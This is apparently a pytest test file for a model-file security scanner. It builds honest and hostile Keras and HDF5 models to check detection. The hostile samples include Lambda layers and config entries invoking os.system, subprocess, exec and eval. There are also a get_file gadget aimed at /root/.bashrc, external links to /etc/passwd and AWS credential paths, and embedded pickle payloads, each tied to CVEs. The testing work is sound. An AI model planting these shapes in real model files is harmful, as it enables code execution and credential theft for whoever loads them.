"""Keras: models written by Keras itself are quiet; every hostile shape is a finding.

Honest .keras and .h5 files come from the real library (Keras 3 on the torch backend, run in a
subprocess so this process never imports Keras). Keras 2 / tf.keras H5 files, which need
TensorFlow to write, are built with h5py exactly as tf.keras lays them out. Hostile files are
real files with their config rewritten, or HDF5 built with h5py. Payloads only `echo`.
"""

from __future__ import annotations

import codecs
import importlib.util
import json
import marshal
import os
import struct
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from modelaudit.detect import HEAD_SIZE, detect
from tests.builders import HARMLESS_CMD, payload, torch_zip
from tests.conftest import codes, findings, run_cli, scan

h5py = pytest.importorskip("h5py")
np = pytest.importorskip("numpy")

_BUILD = r'''
import os, sys
out = sys.argv[1]
import keras, torch
from keras import layers

def both(model, name):
    model.save(os.path.join(out, name + ".keras"))
    model.save(os.path.join(out, name + ".h5"))

seq = keras.Sequential([keras.Input((8, 8, 1)), layers.Conv2D(4, 3, activation="relu"), layers.BatchNormalization(),
                        layers.MaxPooling2D(), layers.Flatten(), layers.Dropout(0.2),
                        layers.Dense(3, activation="softmax")])
seq.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
both(seq, "sequential")
seq.save_weights(os.path.join(out, "sequential.weights.h5"))

inp = keras.Input((10,), dtype="int32")
x = layers.Embedding(50, 8)(inp)
x = layers.LSTM(4)(x)
func = keras.Model(inp, layers.Dense(1)(x))
func.compile(optimizer=keras.optimizers.Adam(1e-3), loss="mse")
both(func, "functional")

inner = keras.Sequential([keras.Input((4,)), layers.Dense(4)], name="inner")
inp = keras.Input((5, 4))
x = layers.TimeDistributed(layers.Dense(4))(inp)
x = layers.Bidirectional(layers.LSTM(3, return_sequences=True))(x)
x = layers.TimeDistributed(inner)(layers.Dense(4)(x))
x = layers.GRU(2)(x)
out_ = layers.Dense(1, activation="sigmoid", kernel_regularizer=keras.regularizers.L2(0.01))(x)
nested = keras.Model(inp, out_)
nested.compile(optimizer=keras.optimizers.SGD(keras.optimizers.schedules.ExponentialDecay(0.1, 100, 0.9)),
               loss=keras.losses.BinaryCrossentropy(), metrics=[keras.metrics.AUC()])
both(nested, "nested")

both(keras.Sequential([keras.Input((4,)), layers.Lambda(lambda x: x * 2.0, name="double")]), "lambda_benign")
# the call only happens when flag is true, which Keras never passes: building the model runs nothing
evil = lambda x, flag=False: __import__("os").system("echo modelaudit-test") if flag else x  # noqa: E731
both(keras.Sequential([keras.Input((4,)), layers.Lambda(evil, name="payload")]), "lambda_payload")

wrap = keras.Sequential([keras.Input((4,)), layers.TorchModuleWrapper(torch.nn.Linear(4, 2))])
wrap.save(os.path.join(out, "torch_wrapper.keras"))
'''

HONEST = ["sequential.keras", "sequential.h5", "sequential.weights.h5", "functional.keras", "functional.h5",
          "nested.keras", "nested.h5"]


@pytest.fixture(scope="module")
def real(tmp_path_factory) -> Path:
    if importlib.util.find_spec("keras") is None:
        pytest.skip("keras is not installed")
    out = tmp_path_factory.mktemp("keras_real")
    env = {**os.environ, "KERAS_BACKEND": "torch", "KERAS_HOME": str(out / ".keras-home")}
    subprocess.run([sys.executable, "-c", _BUILD, str(out)], check=True, env=env, capture_output=True, timeout=600)
    return out


# --------------------------------------------------------------------------- builders
def _rewrite(src: Path, dst: Path, mutate=None, extra: dict[str, bytes] | None = None,  # noqa: ANN001
             drop: tuple[str, ...] = ()) -> Path:
    """Copy a real .keras archive, changing its config.json and members."""
    with zipfile.ZipFile(src) as zin:
        members = {name: zin.read(name) for name in zin.namelist() if name not in drop}
    if mutate is not None and "config.json" in members:
        config = json.loads(members["config.json"])
        mutate(config)
        members["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(dst, "w") as zout:
        for name, data in {**members, **(extra or {})}.items():
            zout.writestr(name, data)
    return dst


def _add_layers(*new_layers: dict):
    return lambda config: config["config"]["layers"].extend(new_layers)


_DTYPE = {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": None}


def _k3(class_name: str, name: str, module: str = "keras.layers", **config) -> dict:
    return {"module": module, "class_name": class_name, "registered_name": None,
            "config": {"name": name, "trainable": True, "dtype": _DTYPE, **config}}


def _fn(module: str, name: str) -> dict:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def _k2_dense(name: str, units: int, activation: str = "relu") -> dict:
    return {"class_name": "Dense", "config": {
        "name": name, "trainable": True, "dtype": "float32", "units": units, "activation": activation,
        "use_bias": True, "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
        "bias_initializer": {"class_name": "Zeros", "config": {}}, "kernel_regularizer": None,
        "bias_regularizer": None, "activity_regularizer": None, "kernel_constraint": None, "bias_constraint": None}}


_K2_LAYERS = [
    {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 16, 16, 3], "dtype": "float32",
                                            "sparse": False, "ragged": False, "name": "conv2d_input"}},
    {"class_name": "Conv2D", "config": {
        "name": "conv2d", "trainable": True, "dtype": "float32", "batch_input_shape": [None, 16, 16, 3],
        "filters": 8, "kernel_size": [3, 3], "strides": [1, 1], "padding": "valid", "data_format": "channels_last",
        "dilation_rate": [1, 1], "groups": 1, "activation": "relu", "use_bias": True,
        "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
        "bias_initializer": {"class_name": "Zeros", "config": {}}, "kernel_regularizer": None,
        "bias_regularizer": None, "activity_regularizer": None, "kernel_constraint": None, "bias_constraint": None}},
    {"class_name": "MaxPooling2D", "config": {"name": "max_pooling2d", "trainable": True, "dtype": "float32",
                                              "pool_size": [2, 2], "padding": "valid", "strides": [2, 2],
                                              "data_format": "channels_last"}},
    {"class_name": "Flatten", "config": {"name": "flatten", "trainable": True, "dtype": "float32",
                                         "data_format": "channels_last"}},
    {"class_name": "Dropout", "config": {"name": "dropout", "trainable": True, "dtype": "float32", "rate": 0.5,
                                         "noise_shape": None, "seed": None}},
    _k2_dense("dense", 10, "softmax"),
]
_K2_TRAINING = {
    "loss": {"class_name": "SparseCategoricalCrossentropy", "config": {
        "reduction": "auto", "name": "sparse_categorical_crossentropy", "from_logits": False, "ignore_class": None}},
    "metrics": [[{"class_name": "MeanMetricWrapper", "config": {"name": "accuracy", "dtype": "float32",
                                                                 "fn": "sparse_categorical_accuracy"}}]],
    "weighted_metrics": None, "loss_weights": None,
    "optimizer_config": {"class_name": "Custom>Adam", "config": {
        "name": "Adam", "weight_decay": None, "clipnorm": None, "global_clipnorm": None, "clipvalue": None,
        "use_ema": False, "ema_momentum": 0.99, "ema_overwrite_frequency": None, "jit_compile": False,
        "is_legacy_optimizer": False, "learning_rate": 0.001, "beta_1": 0.9, "beta_2": 0.999, "epsilon": 1e-07,
        "amsgrad": False}},
}


def _keras2_h5(path: Path, layers: list[dict] | None = None, training: dict | None = None,
               userblock: bytes = b"") -> Path:
    """An H5 model laid out the way tf.keras 2.x writes one (attributes as UTF-8 bytes)."""
    model = {"class_name": "Sequential", "config": {"name": "sequential", "layers": layers or _K2_LAYERS}}
    extra = {"userblock_size": 512} if userblock else {}
    with h5py.File(path, "w", **extra) as f:
        f.attrs["backend"] = b"tensorflow"
        f.attrs["keras_version"] = b"2.13.1"
        f.attrs["model_config"] = json.dumps(model).encode("utf8")
        f.attrs["training_config"] = json.dumps(training or _K2_TRAINING).encode("utf8")
        weights = f.create_group("model_weights")
        names = [layer["config"]["name"] for layer in model["config"]["layers"][1:]]
        weights.attrs["layer_names"] = np.array([n.encode() for n in names])
        weights.attrs["backend"], weights.attrs["keras_version"] = b"tensorflow", b"2.13.1"
        for name in names:
            group = weights.create_group(name)
            if name.startswith(("conv2d", "dense")):
                group.create_dataset(f"{name}/kernel:0", data=np.zeros((3, 3), "float32"))
                group.create_dataset(f"{name}/bias:0", data=np.zeros(3, "float32"))
                group.attrs["weight_names"] = np.array([f"{name}/kernel:0".encode(), f"{name}/bias:0".encode()])
            else:
                group.attrs["weight_names"] = np.array([], dtype="S1")
        f.create_group("optimizer_weights").attrs["weight_names"] = np.array([b"Adam/iter:0"])
    if userblock:
        with open(path, "r+b") as fh:
            fh.write(userblock[:512])
    return path


def _k2_lambda(name: str, fn) -> dict:  # noqa: ANN001
    code = codecs.encode(marshal.dumps(fn.__code__), "base64").decode("ascii")
    return {"class_name": "Lambda", "config": {
        "name": name, "trainable": True, "dtype": "float32", "function": [code, None, None],
        "function_type": "lambda", "module": "__main__", "output_shape": None, "output_shape_type": "raw",
        "output_shape_module": None, "arguments": {}}}


def _set_attr(path: Path, name: str, value: str | bytes) -> Path:
    with h5py.File(path, "r+") as f:
        f.attrs[name] = value
    return path


def _of(result: dict, code: str) -> list[dict]:
    return [i for i in result["issues"] if i["rule_code"] == code]


# --------------------------------------------------------------------------- honest files
@pytest.mark.parametrize("name", HONEST)
def test_real_keras_files_are_clean(real, name):
    result = scan(real / name)
    assert findings(result, "info") == [], result["issues"]
    assert result["has_errors"] is False
    assert result["assets"][0]["type"] == ("keras_zip" if name.endswith(".keras") else "hdf5")


def test_keras2_h5_layout_is_clean(tmp_path):
    result = scan(_keras2_h5(tmp_path / "tf_keras.h5"))
    assert findings(result, "info") == [], result["issues"]
    assert any(c["name"] == "keras h5" for c in result["checks"])


def test_hdf5_without_keras_config_is_clean(tmp_path):
    path = tmp_path / "data.hdf5"
    with h5py.File(path, "w") as f:
        f.create_dataset("x/y", data=np.arange(10))
        f["x"].attrs["note"] = "plain data"
    assert findings(scan(path), "info") == []


def test_cli_exit_codes(real, tmp_path):
    assert run_cli("scan", str(real / "sequential.keras")).code == 0
    hostile = run_cli("scan", str(real / "lambda_payload.h5"), "--format", "json")
    assert hostile.code == 1 and {"MA-K001", "MA-K002"} <= {i["rule_code"] for i in hostile.json()["issues"]}


# --------------------------------------------------------------------------- Lambda code
def test_cve_2024_3660_lambda_payload_in_keras_archive(real):
    result = scan(real / "lambda_payload.keras")
    (layer,) = _of(result, "MA-K001")
    assert layer["severity"] == "warning" and "'payload'" in layer["message"]
    (code,) = _of(result, "MA-K002")
    assert code["severity"] == "critical"
    assert {"os", "system", "__import__"} <= set(code["details"]["references"])


def test_cve_2025_9905_lambda_in_h5_is_critical(real):
    result = scan(real / "lambda_payload.h5")
    assert [i["severity"] for i in _of(result, "MA-K001")] == ["critical"]
    assert _of(result, "MA-K002")


def test_benign_lambda_is_reported_without_dangerous_references(real):
    result = scan(real / "lambda_benign.keras")
    assert codes(result, "warning") == {"MA-K001"}
    assert _of(result, "MA-K001")[0]["details"]["names"] == ["x"]


def test_keras2_lambda_list_format(tmp_path):
    evil = lambda x, flag=False: __import__("subprocess").check_output(HARMLESS_CMD) if flag else x  # noqa: E731
    path = _keras2_h5(tmp_path / "m.h5", _K2_LAYERS[:4] + [_k2_lambda("lambda_1", evil)] + _K2_LAYERS[4:])
    result = scan(path)
    assert codes(result, "warning") == {"MA-K001", "MA-K002"}
    assert {"subprocess", "check_output"} <= set(_of(result, "MA-K002")[0]["details"]["references"])


def test_lambda_as_activation_and_undecodable_code(real, tmp_path):
    serialized = {"class_name": "__lambda__", "config": {"value": ["not base64 at all: os.system", None, None]}}
    path = _rewrite(real / "sequential.keras", tmp_path / "m.keras",
                    _add_layers(_k3("Dense", "d2", units=2, activation=serialized)))
    result = scan(path)
    assert _of(result, "MA-K001") and "serialized Python lambda" in _of(result, "MA-K001")[0]["message"]


# --------------------------------------------------------------------------- config objects
@pytest.mark.parametrize("obj", [
    {"module": "os", "class_name": "system", "config": {"command": HARMLESS_CMD}, "registered_name": None},
    {"module": "subprocess", "class_name": "Popen", "config": {"args": HARMLESS_CMD}, "registered_name": None},
    _k3("Dense", "d2", units=2, activation=_fn("builtins", "exec")),
    {"module": "builtins", "class_name": "eval", "config": {}, "registered_name": None},
])
def test_cve_2025_1550_config_imports_dangerous_module(real, tmp_path, obj):
    result = scan(_rewrite(real / "sequential.keras", tmp_path / "m.keras", _add_layers(obj)))
    assert [i["severity"] for i in _of(result, "MA-K004")] == ["critical"], result["issues"]


@pytest.mark.parametrize("obj", [
    {"module": "my_pkg.layers", "class_name": "MyLayer", "config": {"name": "x"}, "registered_name": "my_pkg>MyLayer"},
    {"module": "keras.layers", "class_name": "Dense", "config": {"name": "x"}, "registered_name": "evil>Dense"},
    {"class_name": "Custom>MyLayer", "config": {"name": "x"}},
    {"class_name": "AttentionWithContext", "config": {"name": "x"}},
    _k3("Dense", "d2", units=2, activation=_fn("builtins", "my_activation")),
])
def test_custom_objects_are_warnings(real, tmp_path, obj):
    result = scan(_rewrite(real / "sequential.keras", tmp_path / "m.keras", _add_layers(obj)))
    assert codes(result, "warning") == {"MA-K003"}, result["issues"]
    assert all(i["severity"] == "warning" for i in result["issues"])


def test_cve_2025_9906_safe_mode_switched_off_from_config(real, tmp_path):
    switch = _k3("Lambda", "switch", function=_fn("keras.config", "enable_unsafe_deserialization"), arguments={})
    payload_layer = {"class_name": "__lambda__", "config": {"code": "4wEAAAAA", "defaults": None, "closure": None}}
    mutate = _add_layers(switch, _k3("Lambda", "run", function=payload_layer, arguments={}))
    result = scan(_rewrite(real / "sequential.keras", tmp_path / "m.keras", mutate))
    assert _of(result, "MA-K005")[0]["severity"] == "critical"
    assert "enable_unsafe_deserialization" in _of(result, "MA-K005")[0]["message"]
    assert _of(result, "MA-K001")


def test_cve_2025_8747_get_file_gadget(real, tmp_path):
    layer = _k3("Lambda", "fetch", function=_fn("keras.utils", "get_file"),
                arguments={"origin": "https://example.invalid/x", "fname": "/root/.bashrc"})
    result = scan(_rewrite(real / "sequential.keras", tmp_path / "m.keras", _add_layers(layer)))
    assert codes(result, "warning") == {"MA-K005"}
    assert "keras.utils.get_file" in _of(result, "MA-K005")[0]["message"]


def test_gadget_hidden_in_embedded_json_string(real, tmp_path):
    hidden = json.dumps(_k3("Lambda", "fetch", function=_fn("keras.src.utils.file_utils", "get_file")))
    layer = _k3("Dense", "d2", units=2, note=hidden)
    result = scan(_rewrite(real / "sequential.keras", tmp_path / "m.keras", _add_layers(layer)))
    assert _of(result, "MA-K005") and "(embedded JSON)" in _of(result, "MA-K005")[0]["details"]["config_path"]


def test_tf_op_lambda_writing_files(tmp_path):
    op = {"class_name": "TFOpLambda", "config": {"name": "tf.io.write_file", "trainable": True, "dtype": "float32",
                                                 "function": "io.write_file"}}
    result = scan(_keras2_h5(tmp_path / "m.h5", _K2_LAYERS + [op]))
    assert codes(result, "warning") == {"MA-K005"}


# --------------------------------------------------------------------------- special layers
def test_torch_module_wrapper(real, tmp_path):
    honest = scan(real / "torch_wrapper.keras")
    assert codes(honest, "warning") == {"MA-K006"}
    import base64

    def swap(config):
        config["config"]["layers"][1]["config"]["module"] = base64.b64encode(torch_zip(payload())).decode()

    result = scan(_rewrite(real / "torch_wrapper.keras", tmp_path / "m.keras", swap))
    assert _of(result, "MA-K006") and _of(result, "MA-P001"), result["issues"]
    assert "TorchModuleWrapper" in _of(result, "MA-P001")[0]["location"]


@pytest.mark.parametrize("filepath,severity", [("/tmp/attacker_savedmodel", "critical"),
                                               ("gs://bucket/model", "critical"), ("saved_model", "warning")])
def test_tfsm_layer(real, tmp_path, filepath, severity):
    layer = _k3("TFSMLayer", "tfsm", module="keras.layers", filepath=filepath, call_endpoint="serve",
                call_training_endpoint=None)
    result = scan(_rewrite(real / "sequential.keras", tmp_path / "m.keras", _add_layers(layer)))
    assert [i["severity"] for i in _of(result, "MA-K007")] == [severity]


@pytest.mark.parametrize("vocabulary,severity", [
    ("/etc/passwd", "critical"), ("https://example.invalid/vocab.txt", "critical"), ("../../secret.txt", "critical"),
    ("C:\\Users\\x\\key.txt", "critical"), ("vocab.txt", "warning"), (["a", "b", "c"], None),
])
def test_lookup_vocabulary_paths(real, tmp_path, vocabulary, severity):
    layer = _k3("StringLookup", "lookup", vocabulary=vocabulary, num_oov_indices=1, output_mode="int",
                encoding="utf-8", invert=False, max_tokens=None, mask_token=None, oov_token="[UNK]")
    result = scan(_rewrite(real / "sequential.keras", tmp_path / "m.keras", _add_layers(layer)))
    assert [i["severity"] for i in _of(result, "MA-K008")] == ([severity] if severity else [])
    assert findings(result) == _of(result, "MA-K008")


# --------------------------------------------------------------------------- HDF5 structure
def test_external_links_and_external_data(tmp_path):
    path = _keras2_h5(tmp_path / "m.h5")
    with h5py.File(path, "r+") as f:
        f["model_weights/dense/soft"] = h5py.SoftLink("/model_weights/dense/dense")
        f["model_weights/leak"] = h5py.ExternalLink("/etc/secrets.h5", "/data")
        f["model_weights/local"] = h5py.ExternalLink("shards.h5", "/data")
        f.create_dataset("model_weights/dense/dense/extra:0", shape=(16,), dtype="u1",
                         external=[("/etc/hostname", 0, 16)])
        layout = h5py.VirtualLayout(shape=(4,), dtype="f8")
        layout[:] = h5py.VirtualSource("/home/user/.aws/credentials.h5", "data", shape=(4,))
        f.create_virtual_dataset("model_weights/virtual", layout)
    result = scan(path)
    links = {i["details"]["link"]: i["severity"] for i in _of(result, "MA-K009")}
    assert links == {"/model_weights/leak": "critical", "/model_weights/local": "warning",
                     "/model_weights/dense/soft": "info"}
    outside = {i["details"]["dataset"]: i["details"]["files"] for i in _of(result, "MA-K010")}
    assert outside == {"/model_weights/dense/dense/extra:0": ["/etc/hostname"],
                       "/model_weights/virtual": ["/home/user/.aws/credentials.h5"]}


def test_user_block_holding_a_pickle(tmp_path):
    path = _keras2_h5(tmp_path / "m.h5", userblock=payload())
    assert detect(path.read_bytes()[:HEAD_SIZE], "m.h5").format == "hdf5"
    result = scan(path)
    assert _of(result, "MA-K011") and _of(result, "MA-P001")
    assert "MA-S007" not in codes(result)


def test_empty_user_block_is_quiet(tmp_path):
    path = tmp_path / "m.h5"
    with h5py.File(path, "w", userblock_size=1024) as f:
        f["w"] = np.zeros(4)
    assert findings(scan(path), "info") == []


def test_malformed_files(tmp_path):
    broken = tmp_path / "broken.h5"
    broken.write_bytes(b"\x89HDF\r\n\x1a\n" + b"\xff" * 200)
    result = scan(broken)
    assert "MA-K012" in codes(result) and result["has_errors"] is True  # not fully scanned
    not_json = _set_attr(_keras2_h5(tmp_path / "m.h5"), "model_config", "{not json")
    assert any("not valid JSON" in i["message"] for i in _of(scan(not_json), "MA-K012"))
    not_text = _set_attr(_keras2_h5(tmp_path / "n.h5"), "model_config", np.arange(3))
    assert _of(scan(not_text), "MA-K012")


def test_missing_h5py_is_reported(tmp_path, monkeypatch):
    path = _keras2_h5(tmp_path / "m.h5")
    monkeypatch.setitem(sys.modules, "h5py", None)
    (issue,) = _of(scan(path), "MA-S006")
    assert "h5py not installed, cannot scan Keras H5 files" in issue["message"]


def test_config_budget(real, tmp_path):
    deep: list = []
    cursor = deep
    for _ in range(400):
        cursor.append([])
        cursor = cursor[0]
    result = scan(_rewrite(real / "sequential.keras", tmp_path / "m.keras", lambda c: c.update(deep=deep)))
    assert _of(result, "MA-K013")


# --------------------------------------------------------------------------- the archive
def test_unexpected_members_are_reported_and_scanned(real, tmp_path):
    extra = {"evil.py": b"import os\nos.system('echo modelaudit-test')\n", "payload.pkl": payload(),
             "assets/tool": b"\x7fELF\x02\x01\x01" + b"\0" * 60}
    result = scan(_rewrite(real / "sequential.keras", tmp_path / "m.keras", extra=extra))
    assert {i["details"]["entry"] for i in _of(result, "MA-K014")} == {"evil.py", "payload.pkl"}
    assert {"MA-P001", "MA-S013"} <= codes(result)


def test_embedded_weights_are_scanned_as_hdf5(real, tmp_path):
    weights = tmp_path / "w.h5"
    with zipfile.ZipFile(real / "sequential.keras") as zf:
        weights.write_bytes(zf.read("model.weights.h5"))
    with h5py.File(weights, "r+") as f:
        f.create_dataset("vars/leak", shape=(8,), dtype="u1", external=[("/etc/passwd", 0, 8)])
    result = scan(_rewrite(real / "sequential.keras", tmp_path / "m.keras",
                           extra={"model.weights.h5": weights.read_bytes()}, drop=("model.weights.h5",)))
    (issue,) = _of(result, "MA-K010")
    assert issue["location"].endswith("m.keras:model.weights.h5")


def test_archive_structure_problems(real, tmp_path):
    missing = scan(_rewrite(real / "sequential.keras", tmp_path / "a.keras", drop=("config.json",)))
    assert any("no config.json" in i["message"] for i in _of(missing, "MA-K012"))
    evil = json.dumps({"module": "os", "class_name": "system", "config": {}, "registered_name": None})
    with zipfile.ZipFile(real / "sequential.keras") as zf:
        honest = zf.read("config.json")
    path = tmp_path / "dup.keras"
    with zipfile.ZipFile(path, "w") as zf, pytest.warns(UserWarning):
        zf.writestr("metadata.json", b'{"keras_version": "3.15.1"}')
        zf.writestr("config.json", honest)
        zf.writestr("config.json", evil)
    result = scan(path)
    assert _of(result, "MA-K012") and _of(result, "MA-K004")
    bad = _rewrite(real / "sequential.keras", tmp_path / "b.keras",
                   extra={"metadata.json": b'{"keras_version": "3.0", "note": "__import__(\'os\')"}'})
    assert "MA-C001" in codes(scan(bad))


def test_detection_of_keras_archives(real, tmp_path):
    data = (real / "sequential.keras").read_bytes()[:HEAD_SIZE]
    assert detect(data, "model.keras").format == "keras_zip"
    renamed = detect(data, "model.zip")
    assert renamed.format == "keras_zip" and not renamed.mismatch
    plain = tmp_path / "plain.keras"
    with zipfile.ZipFile(plain, "w") as zf:
        zf.writestr("readme.txt", b"hello")
    assert detect(plain.read_bytes(), "plain.keras").format == "keras_zip"
    assert detect(plain.read_bytes(), "plain.zip").format == "zip"
    h5 = (real / "sequential.h5").read_bytes()[:HEAD_SIZE]
    assert not detect(h5, "m.keras").mismatch and detect(h5, "m.pkl").mismatch


# --------------------------------------------------------------------------- hostile input found by fuzzing
def _vlen_config_h5(path: Path) -> bytearray:
    """An H5 file whose model_config is a variable-length string (kept in a global heap collection)."""
    with h5py.File(path, "w") as f:
        f.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"name": "s", "layers": []}})
    return bytearray(path.read_bytes())


def test_global_heap_collection_that_never_ends_is_not_read(tmp_path):
    raw = _vlen_config_h5(tmp_path / "honest.h5")
    first_object = raw.index(b"GCOL") + 16  # after signature, version, reserved bytes and the collection size
    raw[first_object:first_object + 16] = bytes(16)  # free-space object of size 0: libhdf5 steps by 0 forever
    path = tmp_path / "m.h5"
    path.write_bytes(raw)
    run = run_cli("scan", str(path), "--format", "json", "--no-isolation", timeout=120)  # a hang fails here
    issues = run.json()["issues"]
    assert run.code == 1 and run.json()["has_errors"] is True
    assert any("never ends" in i["message"] and i["details"]["offset"] == first_object - 16
               for i in issues if i["rule_code"] == "MA-K012"), issues


def test_config_attribute_of_a_damaged_variable_length_type_is_not_read(tmp_path):
    raw = _vlen_config_h5(tmp_path / "honest.h5")
    datatype = raw.index(b"\x19\x01", raw.index(b"model_config\x00"))  # version 1, class 9; kind 1: string
    raw[datatype + 1] = 0xFF  # the vlen kind nibble becomes 15, which h5py's conversion crashed on
    damaged = tmp_path / "damaged.h5"
    damaged.write_bytes(raw)
    run = run_cli("scan", str(damaged), "--format", "json", "--no-isolation", timeout=120)  # a crash fails here
    assert run.code == 1 and any("is not text" in i["message"] for i in run.json()["issues"]), run.stderr
    many = tmp_path / "many.h5"
    with h5py.File(many, "w") as f:  # an array of strings would be read whole, however large
        f.attrs["model_config"] = np.array([b'{"class_name": "Sequential"}'] * 3)
    assert any("is not text" in i["message"] for i in _of(scan(many), "MA-K012"))


def test_config_with_more_values_than_the_budget_is_not_parsed(real, tmp_path):
    text = '{"class_name": "Sequential", "config": {"layers": [' + "[]," * 2_000_000 + "[]]}}"
    result = scan(_rewrite(real / "sequential.keras", tmp_path / "m.keras", extra={"config.json": text.encode()},
                           drop=("config.json",)))
    assert any("it was not parsed" in i["message"] for i in _of(result, "MA-K013"))
    assert result["has_errors"] is True


def test_findings_of_one_config_are_capped(real, tmp_path):
    custom = [{"class_name": f"Custom{i}", "config": {"name": f"c{i}"}} for i in range(100)]
    result = scan(_rewrite(real / "sequential.keras", tmp_path / "m.keras", _add_layers(*custom)))
    found = _of(result, "MA-K003")
    assert len(found) == 26 and "75 more MA-K003 findings" in found[-1]["message"]


def test_lambda_bytecode_budget(real, tmp_path, monkeypatch):
    from modelaudit.scanners import _keras_config

    monkeypatch.setattr(_keras_config, "MAX_CODE_TOTAL", 3000)
    codes_ = [codecs.encode(bytes([i]) * 1000, "base64").decode("ascii") for i in range(4)]
    lambdas = [_k3("Lambda", f"l{i}", function={"class_name": "__lambda__", "config": {"code": code}})
               for i, code in enumerate(codes_ + codes_[:1] * 5)]  # copies of one function are read once
    result = scan(_rewrite(real / "sequential.keras", tmp_path / "m.keras", _add_layers(*lambdas)))
    assert len(_of(result, "MA-K001")) == 9
    (budget,) = _of(result, "MA-K013")
    assert "Lambda bytecode" in budget["message"] and result["has_errors"] is True


def test_variable_length_config_declaring_gigabytes_is_not_read(tmp_path):
    path = tmp_path / "m.h5"
    text = json.dumps({"class_name": "Sequential", "config": {"name": "s", "layers": []}})
    with h5py.File(path, "w") as f:
        f.attrs["model_config"] = text
    raw = bytearray(path.read_bytes())
    descriptor = raw.index(struct.pack("<IQ", len(text), raw.index(b"GCOL")))  # length, heap collection, index
    raw[descriptor:descriptor + 4] = struct.pack("<I", 0xFFFFFF00)  # libhdf5 allocated this much before checking
    path.write_bytes(raw)
    result = scan(path)
    assert any("declares a 4294967040 byte string" in i["message"] for i in _of(result, "MA-K012")), result["issues"]
    assert result["has_errors"] is True


def test_torch_module_whose_zip_directory_points_before_the_file(real, tmp_path):
    import base64

    def cut(config):
        layer = config["config"]["layers"][1]["config"]
        raw = base64.b64decode(layer["module"])
        layer["module"] = base64.b64encode(raw[:100] + raw[400:]).decode()  # members now start before byte 0

    result = scan(_rewrite(real / "torch_wrapper.keras", tmp_path / "m.keras", cut))
    assert not _of(result, "MA-S005"), result["issues"]
    assert _of(result, "MA-A003") and result["has_errors"] is True


def test_virtual_dataset_mapping_of_impossible_rank_is_not_opened(tmp_path):
    path = tmp_path / "m.h5"
    with h5py.File(path, "w") as f:
        layout = h5py.VirtualLayout(shape=(4,), dtype="f8")
        layout[:] = h5py.VirtualSource("src.h5", "data", shape=(4,))
        f.create_virtual_dataset("weights", layout)
    raw = bytearray(path.read_bytes())
    names_end = raw.index(b"src.h5\x00data\x00") + len(b"src.h5\x00data\x00")
    rank_at = names_end + 16 + 16  # after the source selection (all) and the hyperslab's type, version, length
    assert raw[rank_at:rank_at + 4] == struct.pack("<I", 1)
    raw[rank_at:rank_at + 4] = struct.pack("<I", 0x400001)  # libhdf5 cleared that many dimensions: a crash
    path.write_bytes(raw)
    run = run_cli("scan", str(path), "--format", "json", "--no-isolation", timeout=120)
    assert run.code == 1, run.stderr
    assert any("more than 32 dimensions" in i["message"] for i in run.json()["issues"] if i["rule_code"] == "MA-K012")
